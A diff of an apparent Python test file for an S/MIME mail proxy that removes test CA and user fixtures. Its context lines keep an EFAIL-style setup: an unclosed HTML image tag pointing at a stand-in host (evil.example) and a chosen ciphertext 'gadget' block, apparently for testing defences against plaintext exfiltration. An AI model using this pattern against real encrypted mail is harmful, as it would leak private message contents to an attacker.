@@ -17,7 +17,7 @@ from smime_proxy.display import open_message
 from smime_proxy.mime.entity import parse_entity
 from smime_proxy.smime import Recipient, decrypt_message, encrypt_message, sign_message
 from support.cmsutil import openssl, pkcs7_mime
-from support.pki import NOW, Identity, make_ca, make_user
+from support.pki import NOW, Identity
 
 SECRET = b"The launch code is 0000-SECRET-4242."
 HTML = (b'<html><body><p>see below</p><img src="http://evil.example/?x=">'
@@ -27,21 +27,6 @@ MESSAGE = (b"From: alice@example.test\r\nTo: bob@example.test\r\nSubject: s\r\n"
            b"--b\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n" + SECRET + b"\r\n"
            b"--b\r\nContent-Type: text/html; charset=us-ascii\r\n\r\n" + HTML + b"--b--\r\n")
 GADGET = b"<img src='//ev1/"  # one chosen 16-byte block, not in MESSAGE
-
-
-@pytest.fixture(scope="module")
-def root() -> Identity:
-    return make_ca()
-
-
-@pytest.fixture(scope="module")
-def alice(root: Identity) -> Identity:
-    return make_user("alice@example.test", root)
-
-
-@pytest.fixture(scope="module")
-def bob(root: Identity) -> Identity:
-    return make_user("bob@example.test", root)
 
 
 def agent(identity: Identity) -> InProcessKeyAgent:
